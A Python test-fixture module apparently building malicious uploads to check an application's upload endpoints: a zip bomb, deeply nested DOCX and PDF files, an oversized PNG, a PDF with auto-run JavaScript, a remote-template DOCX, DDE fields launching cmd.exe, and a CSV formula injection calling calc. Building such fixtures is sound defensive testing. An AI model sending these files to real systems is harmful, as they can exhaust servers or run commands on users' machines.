"""One of each kind of file that is sent to stop the house, made anew: none is worth keeping."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from functools import cache

from ledger.roster import PEOPLE
from ledger.roster_form import workbook
from models.evidence_kinds import MediaType

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
EXCEL = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MEGABYTE = 1 << 20
SECTOR, STREAM = 512, 4096
"""Bytes: of a sector of an Office file before 2007, and of the shortest stream it keeps apart."""
FREE, END, TABLE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
"""What such a file says of its sectors."""
DDE = r"DDEAUTO c:\\windows\\system32\\cmd.exe /k"


def marks() -> str:
    """Return a password of one letter with 100,000 accents."""
    return "e" + "\u0301" * 100_000


@cache
def zip_bomb() -> bytes:
    """Return a workbook of 300 kB whose only sheet is 300 MB of nothing."""
    sheet = f'<worksheet xmlns="{EXCEL}"><sheetData>'.encode()
    return _zipped({"xl/worksheets/sheet1.xml": (sheet, *([b" " * MEGABYTE] * 300))})


def wide_docx() -> bytes:
    """Return a Word file of 2 kB whose only table has 10,000 columns."""
    cells = b"<w:tc><w:p/></w:tc>" * 10_000
    head = f'<w:document xmlns:w="{WORD}"><w:body><w:tbl>'.encode()
    rows = b"<w:tr>%s</w:tr>" % cells
    return _zipped({"word/document.xml": (head, rows, b"</w:tbl></w:body></w:document>")})


def nested_docx() -> bytes:
    """Return a Word file whose tables lie in one another 100,000 deep."""
    head = f'<w:document xmlns:w="{WORD}"><w:body>'.encode()
    return _zipped({"word/document.xml": (head, b"<w:tbl><w:tr><w:tc>" * 100_000)})


def wide_csv() -> bytes:
    """Return a CSV of 4 MB, all of it one row."""
    return b"a," * (2 * MEGABYTE)


def long_cells_csv() -> bytes:
    """Return a CSV of 4 MB whose cells are alike for as long as they go on."""
    cell = "按期召开支部委员会会议".encode() * 900
    return b"\n".join([b",".join([cell] * 4)] * 32)


def scripted_pdf() -> bytes:
    """Return a PDF that runs a script when it is opened."""
    return _pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>")


def nested_pdf(arrays: int = 20_000) -> bytes:
    """Return a PDF, of 16 MB with so many, whose arrays lie in one another."""
    return _pdf(b"<</Type/Catalog/Pages 2 0 R>>", (b"[" * 400 + b"]" * 400 for _ in range(arrays)))


def huge_picture() -> bytes:
    """Return a PNG of a hundred kB that says it has 10 gigapixels."""
    size = 100_000
    head = struct.pack(">IIBBBBB", size, size, 8, 0, 0, 0, 0)
    data = zlib.compress(bytes(100 * MEGABYTE))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        for kind, body in ((b"IHDR", head), (b"IDAT", data), (b"IEND", b""))
    )


def template_docx() -> bytes:
    """Return a Word file that fetches its template from the web."""
    template = "https://a.example/a.dotm"
    return _docx(
        {
            "word/_rels/document.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
            f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="{template}"'
            ' TargetMode="External"/></Relationships>'.encode()
        }
    )


def object_docx() -> bytes:
    """Return a Word file with an object of another program in it."""
    return _docx({"word/embeddings/oleObject1.bin": _compound("CONTENTS", b"")})


def dde_docx() -> bytes:
    """Return a Word file with a field that runs a program."""
    return _docx(
        {
            "word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body><w:p>'
            f'<w:fldSimple w:instr="{DDE}"/></w:p></w:body></w:document>'.encode()
        }
    )


def old_doc() -> bytes:
    """Return a file of Word before 2007 with a field that runs a program."""
    head = b"\xec\xa5".ljust(1024, b"\0")
    return _compound("WordDocument", head + f"\x13{DDE}\x14\x15".encode("utf-16-le"))


def formula_csv() -> bytes:
    """Return a CSV whose last cell of many is a formula that runs a program."""
    return "姓名,说明\r\n".encode() + "张三,已整改\r\n".encode() * 50_000 + b"a,=cmd|'/c calc'!A0"


def nameless_roster(people: int = 49_000) -> bytes:
    """Return a roster with as many people as may be, none of whom has a name."""
    rows = ((f"zhang{number}", "") for number in range(people))
    return workbook({PEOPLE: [("登录名", "姓名"), *rows]})


def endless_notice() -> bytes:
    """Return a notice on days off that is all dates, each with a weekday that it does not have."""
    dates = "1月1日（周一）上班，" * 800
    return f"关于2027年部分节假日安排的通知。一、元旦：{dates}放假。".encode()


def endless_guide() -> bytes:
    """Return a guide of 5 MB that is all headings, each of them the first."""
    return ("党支部诊断工作指南\n" + "1.组织\n（1）健全组织\n" * 160_000).encode()


SENT: dict[str, dict[str, Callable[[], bytes]]] = {
    "ledger": {
        "bomb.xlsx": zip_bomb,
        "wide.docx": wide_docx,
        "nested.docx": nested_docx,
        "wide.csv": wide_csv,
        "long.csv": long_cells_csv,
    },
    "evidence": {
        "script.pdf": scripted_pdf,
        "nested.pdf": nested_pdf,
        "huge.png": huge_picture,
        "bomb.xlsx": zip_bomb,
        "template.docx": template_docx,
        "object.docx": object_docx,
        "dde.docx": dde_docx,
        "old.doc": old_doc,
        "formula.csv": formula_csv,
    },
    "roster": {"bomb.xlsx": zip_bomb, "nameless.xlsx": nameless_roster},
    "guide": {"bomb.xlsx": zip_bomb, "nested.docx": nested_docx, "endless.txt": endless_guide},
    "notice": {"nested.docx": nested_docx, "endless.txt": endless_notice},
}
"""What is sent, by the door that it is sent to."""


def _docx(parts: dict[str, bytes]) -> bytes:
    types = (
        f'<Types xmlns="{PACKAGE}/content-types"><Override PartName="/word/document.xml"'
        f' ContentType="{MediaType.DOCX.value}.main+xml"/></Types>'
    )
    empty = f'<w:document xmlns:w="{WORD}"/>'.encode()
    parts = {"[Content_Types].xml": types.encode(), "word/document.xml": empty} | parts
    return _zipped({name: (content,) for name, content in parts.items()})


def _zipped(parts: dict[str, Iterable[bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, pieces in parts.items():
            with archive.open(name, "w", force_zip64=True) as part:
                for piece in pieces:
                    part.write(piece)
    return out.getvalue()


def _compound(name: str, content: bytes) -> bytes:
    """Return a file of Office before 2007 with one stream: a head, a table, a directory, it."""
    content = content.ljust(STREAM, b"\0")
    sectors = len(content) // SECTOR
    table = (TABLE, END, *range(3, 2 + sectors), END)
    fields = (0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, STREAM, END, 0, END, 0)
    head = struct.pack("<8s16xHHHHH6xIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", *fields)
    entries = (("Root Entry", 5, 1, END, 0), (name, 2, FREE, 2, len(content)))
    directory = b"".join(
        called.encode("utf-16-le").ljust(64, b"\0")
        + struct.pack("<HBBIII36xIQ", 2 * len(called) + 2, kind, 1, FREE, FREE, child, start, length)
        for called, kind, child, start, length in entries
    )
    places = struct.pack("<109I", 0, *[FREE] * 108)
    listed = struct.pack(f"<{len(table)}I", *table).ljust(SECTOR, b"\xff")
    return head + places + listed + directory.ljust(SECTOR, b"\0") + content


def _pdf(catalogue: bytes, more: Iterable[bytes] = ()) -> bytes:
    objects = [catalogue, b"<</Type/Pages/Kids[]/Count 0>>", *more]
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    tail = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Size %d/Root 1 0 R>>\n" % (count, table, count)
    return bytes(body) + tail + b"startxref\n%d\n%%%%EOF\n" % len(body)
